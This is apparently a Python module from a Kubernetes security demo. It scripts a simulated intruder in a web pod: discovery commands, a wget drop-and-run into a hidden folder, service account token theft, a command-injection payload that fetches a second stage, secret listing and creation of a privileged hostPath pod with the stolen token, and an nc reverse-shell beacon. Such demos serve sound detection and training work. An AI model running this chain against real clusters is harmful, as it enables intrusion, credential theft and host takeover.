"""The intruder: one hands-on session in a web pod, from the first look around to a privileged pod.

Every command is really typed into a shell in the container and really does what it says; only the servers it
talks to (cli/demo/outside.py) are the demo's own.
"""

import json
import random
import time
from dataclasses import dataclass
from datetime import UTC, datetime
from urllib.parse import quote

from cli.demo import controlplane
from cli.demo.controlplane import AuditLog
from cli.demo.errors import DemoError
from cli.demo.network import Network
from cli.demo.outside import API_PORT, BEACON_PORT, DROP_PORT
from cli.demo.pods import NAMESPACE, TOKEN_DIRECTORY, RunningPod
from cli.demo.progress import Progress
from cli.demo.runtime import Runtime
from cli.demo.terminal import Terminal

_PAUSE_S = (0.08, 0.25)  # between commands, as a hurried person would type
_HIDEOUT = "/tmp/.cache"  # noqa: S108 — in the container, not here
# busybox runs the applet it is given when its own name begins with "busybox".
_BINARY = f"{_HIDEOUT}/busybox.x64"
_ADMIN_PORT = 9090
_SHOWN = 110  # characters of a command on the screen


@dataclass(frozen=True, slots=True)
class Intrusion:
    """What was done, and when (Unix nanoseconds)."""

    user: str
    pod: str
    began_ns: int
    ended_ns: int
    commands: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class _Step:
    title: str
    commands: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Scene:
    """Where it is played."""

    runtime: Runtime
    web: RunningPod
    backend: RunningPod
    network: Network
    audit: AuditLog


def play(scene: Scene, progress: Progress) -> Intrusion:
    """Do it all, in about five seconds. Raises: DemoError if a step has no effect."""
    began, received = time.time_ns(), datetime.now(UTC)
    started, completed = controlplane.exec_records(controlplane.human(), scene.web, received)
    scene.audit.write(started)
    progress.say(f"{controlplane.HUMAN} $ kubectl exec -n {NAMESPACE} -it {scene.web.pod.name} -- sh")
    typed: list[str] = []
    with Terminal(scene.runtime, scene.web.container_id) as terminal:
        for step in _steps(scene.backend, scene.network):
            progress.update(step.title)
            for command in step.commands:
                _type(terminal, command, progress)
                typed.append(command)
        _check_dropped(terminal)
    scene.audit.write(controlplane.closed_at(completed, datetime.now(UTC)))
    return Intrusion(controlplane.HUMAN, scene.web.pod.name, began, time.time_ns(), tuple(typed))


def _type(terminal: Terminal, command: str, progress: Progress) -> None:
    progress.say(f"# {command if len(command) <= _SHOWN else command[: _SHOWN - 1] + '…'}")
    said = terminal.run(command)
    if "Segmentation fault" in said:
        raise DemoError(f"a program of the intruder's crashed, its step had no effect: {said.strip()!r}")
    time.sleep(random.uniform(*_PAUSE_S))  # noqa: S311 — a rhythm, not a secret


def _check_dropped(terminal: Terminal) -> None:
    said = terminal.run(f"test -x {_BINARY} && echo there")
    if "there" not in said:
        raise DemoError(f"the intruder's download never arrived in the container: {said.strip()!r}")


def _steps(backend: RunningPod, network: Network) -> tuple[_Step, ...]:
    return (
        _Step("discovery", ("id", "uname -a", "cat /etc/passwd", "ps", "mount", "env | grep BACKEND")),
        _Step("a binary dropped and run", _drop(network.outside)),
        _Step("the service account token", (f"cat {TOKEN_DIRECTORY}/token > {_HIDEOUT}/t", f"T=$(cat {_HIDEOUT}/t)")),
        _Step("lateral movement to the backend", (_lateral(backend, network.outside),)),
        _Step("the API server, with the stolen token", _api_calls(network.gateway)),
        _Step("a beacon", (f"{_BINARY} nc {network.outside} {BEACON_PORT} -e /bin/sh",)),
    )


def _drop(outside: str) -> tuple[str, ...]:
    return (
        f"mkdir -p {_HIDEOUT} && cd {_HIDEOUT}",
        f"wget -q -O {_BINARY} http://{outside}:{DROP_PORT}/busybox.x64",
        f"chmod +x {_BINARY}",
        f"{_BINARY} hostname",
    )


def _lateral(backend: RunningPod, outside: str) -> str:
    """A request to the diagnostics page with a command behind its parameter."""
    fetch = f"wget -q -O /tmp/.s http://{outside}:{DROP_PORT}/stage2"
    injected = quote(f"127.0.0.1;id;cat /etc/passwd;{fetch};sh /tmp/.s", safe=";:/")
    return f"wget -q -O - 'http://{backend.address}:{_ADMIN_PORT}/cgi-bin/diagnostics?host={injected}'"


def _api_calls(gateway: str) -> tuple[str, ...]:
    pod = json.dumps(_escape_pod(), separators=(",", ":"))
    api = f"http://{gateway}:{API_PORT}/api/v1/namespaces/{NAMESPACE}"
    bearer = '--header "Authorization: Bearer $T"'
    return (
        f"wget -q -O - {bearer} {api}/secrets",
        f"echo '{pod}' > {_HIDEOUT}/p",
        f"wget -q -O - {bearer} --header 'Content-Type: application/json' --post-file {_HIDEOUT}/p {api}/pods",
    )


def _escape_pod() -> dict[str, object]:
    """A pod that is the node: privileged, its processes, its file system."""
    container = {
        "name": "tools",
        "image": "busybox",
        "command": ["sleep", "infinity"],
        "securityContext": {"privileged": True},
        "volumeMounts": [{"name": "root", "mountPath": "/host"}],
    }
    return {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": "node-tools", "namespace": NAMESPACE},
        "spec": {
            "hostPID": True,
            "containers": [container],
            "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
        },
    }
